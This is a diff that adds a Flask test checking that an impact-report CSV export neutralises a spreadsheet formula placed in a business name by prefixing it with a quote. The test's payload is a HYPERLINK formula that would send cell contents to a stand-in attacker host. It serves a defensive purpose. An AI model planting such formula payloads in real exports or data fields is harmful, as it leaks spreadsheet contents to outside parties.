@@ -471,3 +471,22 @@ def test_needs_are_browsed_by_filters_and_sorted(
         ),
         403,
     )
+
+
+def test_the_impact_csv_neutralises_a_formula_in_a_business_name(
+    client: FlaskClient, csr: Csr, db_session: Session
+) -> None:
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"klik")'
+    csr.business.name = formula
+    db_session.flush()
+    sid = csr.propose(client).json["id"]
+    csr.act(client, sid, "accept", csr.alumna_h)
+    paid = csr.disburse(client, sid, 1_000_000).json["id"]
+    confirm = f"/v1/sponsorships/{sid}/disbursements/{paid}/confirm"
+    assert client.post(confirm, headers=csr.alumna_h).status_code == 200
+    url = f"/v1/organizations/{csr.company.id}/impact?year={YEAR}"
+    assert client.get(url, headers=csr.partner_h).json["businesses"][0]["business_name"] == formula
+    as_csv = client.get(url + "&format=csv", headers=csr.partner_h)
+    rows = list(csv.reader(io.StringIO(as_csv.get_data(as_text=True))))
+    assert rows[1][1] == "'" + formula  # shown as text by a spreadsheet, never run
+    assert rows[1][3] == "1000000"  # numbers are left as they are
